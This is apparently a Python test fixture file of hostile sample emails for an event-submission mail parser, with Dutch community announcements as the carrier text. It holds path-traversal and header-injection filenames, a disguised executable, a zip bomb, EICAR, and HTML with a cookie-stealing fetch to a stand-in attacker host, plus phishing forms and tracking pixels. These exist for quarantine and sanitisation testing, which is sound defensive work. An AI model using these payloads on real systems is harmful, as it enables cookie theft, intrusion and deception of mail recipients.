# ruff: noqa: E501 -- mails have the lines that their programs write
# a label is a line:
# fmt: off
"""Submissions that came in odd shapes: a subject alone, TNEF, hostile names, torn, infected, scripted."""

import base64

from tests.opened.labels import Mail, act, att
from tests.opened.mime import base64_lines, file_part, multi, quoted_printable, text
from tests.opened.papers import DOCX, docx, photo, png, program, winmail
from tests.opened.programs import bare, headers, outlook, outlook_web, thunderbird

from .papers import eicar, pdf, zip_bomb

PDF, TNEF = "application/pdf", "application/ms-tnef"
PROGRAM_TYPES = ["application/octet-stream", "application/vnd.microsoft.portable-executable", "application/x-msdownload", "application/x-msdos-program"]

CHAIRS = """Beste actieweekredactie,

Van dinsdag 1 tot en met donderdag 3 juni 2027 staat in de hal van wijkcentrum De Glazenap te Tegelen (Kerkhoflaan 1) de tentoonstelling Blijf even zitten: dertig schoolstoelen, beschilderd door thuiszittende kinderen. Iedereen mag binnenlopen, toegang gratis. Het persbericht zit erbij.

Kunstcollectief De Pottenbakker
pottenbakker@kunstintegelen.example.nl
"""
PRESS = docx("PERSBERICHT", "Blijf even zitten", "Een tentoonstelling over thuiszitten", "Tegelen, mei 2027")
WINMAIL = winmail("Tentoonstelling Tegelen", "Persbericht.docx", PRESS)

FIELD = """Beste redactie,

Onze bijdrage: Op de fiets naar morgen, een toertocht van jongeren met hun mentor of jeugdhulpverlener. Vrijdag 4 juni 2027, start 9.45 uur, rond 12.30 uur terug. Verzamelen bij Eetcafe De Wielewaal, Pannenstraat 11 te Groesbeek. Aanmelden via fiets@wielerclubdeheuvel.example.nl

De stukken heb ik maar allemaal bijgesloten.

Wielerclub De Heuvel
www.wielerclubdeheuvel.example.nl
"""
ROUTE, POSTER, RULES = pdf("Op de fiets naar morgen", "Route 24 km", "Pauze bij de molen"), png("fietsposter", (180, 240)), b"Helm op, bel mee, niemand rijdt alleen.\r\n"
PAGE = b"<html><script>location='https://kwaad.example.com/'</script></html>\n"

TORN = """Geachte redactie,

Op maandag 3 juni 2019 – de openingsdag dus – houden wij van 16.00 tot 17.45 uur “Café de Tweede Kans”, een gesprek voor ouders en zorgcoördinatoren over opnieuw beginnen. We zijn te gast bij Brasserie ’t Meerzicht, Kornputsingel 28 in Steenwijk. Entree € 3, koffie inbegrepen.

Zie ook: www.tweedekanssteenwijk.example.nl

Groeten van Stichting Tweede Kans, André & Zoë
"""
CROWD = photo("meerzicht", exif=False)
LINES = base64_lines(CROWD).decode().split("\n")
KEPT = LINES[: len(LINES) * 3 // 5]
HALF = base64.b64decode("".join(KEPT))
TORN_TOP = [line.replace("Tweede Kans Steenwijk", "Café Tweede Kans") for line in headers("Tweede Kans Steenwijk <info@tweedekanssteenwijk.example.nl>", "Actieweek", "2019-05-15 22:22", "tweedekans")]
torn = (
    "".join(line + "\n" for line in TORN_TOP).encode("cp1252")
    + b'Content-Type: multipart/mixed; boundary="----_=_torn_2019"\n\n------_=_torn_2019\nContent-Type: text/plain; charset="us-ascii"\nContent-Transfer-Encoding: 8bit\n\n' + TORN.encode("cp1252")
    + '\n------_=_torn_2019\nContent-Type: image/jpeg; name="café.jpg"\nContent-Disposition: attachment; filename="café.jpg"\nContent-Transfer-Encoding: base64\n\n'.encode("cp1252") + "\n".join(KEPT).encode()
)

INFECTED = """Goedendag,

Aanmelding actieweek:

WIE: OBS De Wulpenhof
WAT: Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven, en voor hun ouders
WANNEER: donderdag 03-06-2027, 18:30-19:15
WAAR: OBS De Wulpenhof, Kerkplein 22, 3891 ED Zeewolde
INFO EN AANMELDEN: https://dewulpenhof.example.nl/nachtlampje

Flyer, muziek, decor en draaiboek in de bijlage.

Groet, juf Annemiek
"""
NIGHT, DECOR = pdf("Nachtlampje aan", "donderdag 3 juni, 18.30 - 19.15 uur"), zip_bomb("decor.bmp")

SCRIPTED = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Aankondiging</title><base href="https://kwaad.example.com/">
<style>.weg{display:none} @import url(https://volgen.example.com/s.css);</style><script>fetch('https://kwaad.example.com/?'+document.cookie)</script></head>
<body onload="alert('x')"><div class="weg">Sjabloon: woensdag 2 juni 2027, 20.00 uur, Zaal Voorbeeld, Groningen</div>
<span style="font-size:0;color:#fff;max-height:0">Nieuws uit Beilen en omstreken. Reageer v&oacute;&oacute;r 30 april.</span>
<!-- <p>Datum: 4 juni 2027 08:00</p> -->
<h2 style="color:#0b7a75">Hunebed &amp; huiswerk</h2>
<p>Een buitenles voor leerlingen die de klas even niet trekken, samen met hun docent.</p>
<dl><dt><b>Dag</b></dt><dd>dinsdag&nbsp;1&nbsp;juni&nbsp;2027</dd><dt><b>Tijd</b></dt><dd>11.00&thinsp;&#8211;&thinsp;13.15&nbsp;uur</dd><dt><b>Plek</b></dt><dd>Bezoekerscentrum De Zwerfkei<br>Asserstraat&nbsp;30<br>9411&nbsp;LP&nbsp;Beilen</dd></dl>
<p><a href="https://buitenlesdrenthe.example.org/hunebed?utm_source=mail&amp;utm_campaign=aw27&amp;groep=vo" onclick="steel()">Doe mee</a> <a href="javascript:void(0)">klik</a></p>
<iframe src="https://kwaad.example.com/i"></iframe><form action="https://kwaad.example.com/f"><input type="hidden" name="a" value="b"><input name="pin"></form><img src=x onerror="alert(1)">
<p>Buitenles Drenthe &bull; <a href="https://www.buitenlesdrenthe.example.org">onze site</a> &bull; <a href="mailto:post@buitenlesdrenthe.example.org?subject=Vraag%20over%202%20juni">post@buitenlesdrenthe.example.org</a></p>
<img src="https://volgen.example.com/p.gif?m=actieweek%40example.org&amp;d=2027-06-03" width="1" height="1"></body></html>
"""

SUBJECT = "Actieweek! Inloopavond ‘Kopje thee?’ - do 3 juni 19.30-21u - dorpshuis De Notaris, Dorpsstraat 33, Harmelen"

MAILS = [
    Mail("kopje-thee", outlook_web("Sociaal Team Woerden-Oost <sociaalteam@woerdenvoorbeeld.example.nl>", SUBJECT, "2027-05-20 18:18", "\nOutlook voor Android downloaden\n"), "submission",
         activities=(act("Inloopavond ‘Kopje thee?’", "2027-06-03 19:30-21:00", "dorpshuis De Notaris | Dorpsstraat 33, Harmelen | Woerden", by="Sociaal Team Woerden-Oost", or_title=["Kopje thee?"], or_venue=["De Notaris"]),),
         tests="all facts in the subject, whose question mark is in the title; a body with nothing but the program's own line; organiser only in the display name; Harmelen lies in Woerden"),
    Mail("stoelen-in-winmail", bare("De Pottenbakker <pottenbakker@kunstintegelen.example.nl>", "Tentoonstelling Tegelen", "2027-05-17 14:37", "", "X-MS-TNEF-Correlator: <0099AABB@kunstintegelen.example.nl>", "X-Mailer: Microsoft Outlook 16.0",
            part=multi("mixed", text(CHAIRS, charset="windows-1252"), file_part("winmail.dat", TNEF, WINMAIL), boundary="----=_NextPart_000_00A1_01DBC7")), "submission",
         activities=(act("Blijf even zitten", "2027-06-01..2027-06-03 hele dag", "wijkcentrum De Glazenap | Kerkhoflaan 1, Tegelen | Venlo", "iedereen", "Kunstcollectief De Pottenbakker", mail="pottenbakker@kunstintegelen.example.nl", or_title=["tentoonstelling Blijf even zitten"], or_venue=["hal van wijkcentrum De Glazenap", "hal van wijkcentrum De Glazenap te Tegelen"], or_organiser=["De Pottenbakker"]),),
         attachments=(att("winmail.dat", TNEF, WINMAIL), att("Persbericht.docx", DOCX, PRESS, optional=True, inside="winmail.dat")),
         tests="three days without hours, 'van dinsdag 1 tot en met donderdag 3 juni'; TNEF with a document in it; Tegelen lies in Venlo"),
    Mail("namen-met-streken", thunderbird("Wielerclub De Heuvel <fiets@wielerclubdeheuvel.example.nl>", "toertocht + stukken", "2027-05-06 21:12", FIELD,
            file_part("/etc/cron.d/../route 24 km.pdf", PDF, ROUTE, style="rfc2231"), file_part("..\\\\..\\\\Startup\\\\spelregels.txt", "text/plain", RULES), file_part("poster\u2067gnp.scr", PDF, program(), style="rfc2231"), file_part("tocht\r\nBcc: iedereen@example.com\t.html", "text/html", PAGE, style="rfc2231"), file_part("Poster “Op de fiets” – groot.png", "image/png", POSTER, style="words")), "submission",
         activities=(act("Op de fiets naar morgen", "2027-06-04 09:45-12:30", "Eetcafe De Wielewaal | Pannenstraat 11, Groesbeek | Berg en Dal", "jongeren onderwijs jeugdhulp", "Wielerclub De Heuvel", web="https://www.wielerclubdeheuvel.example.nl", mail="fiets@wielerclubdeheuvel.example.nl", ignore="end", or_title=["toertocht Op de fiets naar morgen"]),),
         attachments=(att("route 24 km.pdf", PDF, ROUTE), att("spelregels.txt", "text/plain", RULES), att("postergnp.scr", "application/x-dosexec", program(), "quarantine", also={"type": [PDF, *PROGRAM_TYPES]}), att("tochtBcc: iedereen@example.com.html", "text/html", PAGE, "quarantine", also={"name": ["*.html"]}), att("Poster “Op de fiets” – groot.png", "image/png", POSTER)),
         tests="paths with both kinds of slash, an isolating direction character, line end and tab in a name, an encoded word as a name; a page with script; registration by mail is no page; Groesbeek lies in Berg en Dal", note="'Rond 12.30 uur' may be an end or none: not scored."),
    Mail("afgescheurde-foto", torn, "submission", 2019,
         activities=(act("Café de Tweede Kans", "2019-06-03 16:00-17:45", "Brasserie ’t Meerzicht | Kornputsingel 28, Steenwijk | Steenwijkerland", "ouders onderwijs", "Stichting Tweede Kans", web="https://www.tweedekanssteenwijk.example.nl", or_organiser=["Tweede Kans"]),),
         attachments=(att("café.jpg", "image/jpeg", HALF, also={"action": ["quarantine", "strip-metadata"]}),),
         tests="says us-ascii and is windows-1252, also raw in From and in the file's name; broken off inside a photo, no closing boundary; a price; Steenwijk lies in Steenwijkerland"),
    Mail("nachtlampje-met-virus", outlook("OBS De Wulpenhof <info@dewulpenhof.example.nl>", "Aanmelding actieweek", "2027-05-21 15:44", INFECTED, file_part("Flyer nachtlampje.pdf", PDF, NIGHT), file_part("Slaapliedje.mp3", "audio/mpeg", program()), file_part("Decor.zip", "application/zip", DECOR), file_part("Draaiboek.txt", "text/plain", eicar())), "submission",
         activities=(act("Nachtlampje aan", "2027-06-03 18:30-19:15", "OBS De Wulpenhof | Kerkplein 22, 3891 ED Zeewolde | Zeewolde", "jongeren ouders", "OBS De Wulpenhof", web="https://dewulpenhof.example.nl/nachtlampje", reg="https://dewulpenhof.example.nl/nachtlampje", or_title=["Nachtlampje aan, verteluurtje voor kleuters", "verteluurtje Nachtlampje aan", "Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven", "Nachtlampje aan, verteluurtje voor kleuters die nog niet naar school durven, en voor hun ouders"]),),
         attachments=(att("Flyer nachtlampje.pdf", PDF, NIGHT), att("Slaapliedje.mp3", "application/x-dosexec", program(), "quarantine", also={"type": ["audio/mpeg", *PROGRAM_TYPES]}), att("Decor.zip", "application/zip", DECOR, "quarantine"), att("Draaiboek.txt", "text/plain", eicar(), "quarantine", also={"type": ["application/octet-stream", "application/x-dosexec"]})),
         tests="an honest submission with a program that calls itself music, a zip that unpacks to a thousand times its size and the EICAR string; the flyer stays; info and registration on one page; Zeewolde"),
    Mail("hunebed-met-script", bare("Buitenles Drenthe <post@buitenlesdrenthe.example.org>", "Hunebed & huiswerk =?utf-8?B?8J+qqA==?=", "2027-05-13 10:00", "", "X-Mailer: PostDuif 3", part=b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n" + quoted_printable(SCRIPTED.encode())), "submission",
         activities=(act("Hunebed & huiswerk", "2027-06-01 11:00-13:15", "Bezoekerscentrum De Zwerfkei | Asserstraat 30, 9411 LP Beilen | Midden-Drenthe", "jongeren onderwijs", "Buitenles Drenthe", web="https://www.buitenlesdrenthe.example.org", reg="https://buitenlesdrenthe.example.org/hunebed?groep=vo", mail="post@buitenlesdrenthe.example.org", or_title=["buitenles Hunebed & huiswerk"]),),
         tests="script, handlers, base, iframe, form, javascript: link; hidden text, a comment and a pixel with other days and towns; thin blanks; of the query only utm goes; Beilen lies in Midden-Drenthe"),
]
